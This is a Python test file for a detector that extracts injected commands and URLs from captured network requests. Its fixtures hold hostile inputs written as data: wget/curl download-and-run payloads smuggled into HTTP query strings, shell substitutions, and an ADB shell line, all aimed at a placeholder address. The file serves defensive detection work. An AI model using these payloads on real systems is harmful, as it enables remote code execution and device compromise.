"""What comes first on a connection: pages, names over TLS, injected commands."""

import pytest

from cure.formats.injected import injected
from cure.formats.openings import asked


@pytest.mark.parametrize(
    ("text", "commands"),
    [
        (
            "GET /shell?cd+/tmp;wget+http:/\\/192.0.2.1/a;sh+a HTTP/1.1",
            ["wget http://192.0.2.1/a;sh a HTTP/1.1"],
        ),
        ("GET /x?y=;curl%20192.0.2.1/a%7Csh HTTP/1.1", ["curl 192.0.2.1/a|sh HTTP/1.1"]),
        ("<a>$(wget${IFS}http://192.0.2.1/a+b)</a>\r\nx", ["wget http://192.0.2.1/a+b)"]),
        (
            "$(/bin/busybox wget -g 192.0.2.1 -l /tmp/b -r /c;sh /tmp/b)",
            ["wget http://192.0.2.1/c;sh /tmp/b)"],
        ),
        (
            "wget http://192.0.2.1/a\nwget http://192.0.2.1/b",
            ["wget http://192.0.2.1/a", "wget http://192.0.2.1/b"],
        ),
        ("User-Agent: wget\r\nUser-Agent: Wget/1.20\r\nUser-Agent: curl/8.0", []),
        ("Referer: http://example.com/", []),
    ],
)
def test_commands_that_fetch_files_are_found_however_they_are_escaped(text, commands):
    assert injected(text) == commands


def test_a_request_names_its_commands_and_their_urls():
    said, urls = asked(b"GET /?a=`wget+http://192.0.2.1/a` HTTP/1.1\r\nHost: 192.0.2.9\r\n\r\n")
    assert said == {
        "method": "GET",
        "path": "/?a=`wget+http://192.0.2.1/a`",
        "command": "wget http://192.0.2.1/a` HTTP/1.1",
    }
    assert [url.value for url in urls] == ["http://192.0.2.1/a"]


def test_a_command_over_no_protocol_counts_too():
    said, urls = asked(b"CNXN\0\0host::shell:cd /tmp; wget http://192.0.2.1/a.sh; sh a.sh\0")
    assert list(said) == ["command"]
    assert [url.value for url in urls] == ["http://192.0.2.1/a.sh"]


@pytest.mark.parametrize("data", [b"", b"\3\0\0\x13", b"MGLNDD_192.0.2.9_8080\n"])
def test_other_bytes_say_nothing(data):
    assert asked(data) == ({}, [])


def test_long_commands_are_cut():
    said, _ = asked(b"wget " + b"a" * 5000)
    assert len(said["command"]) == 1000
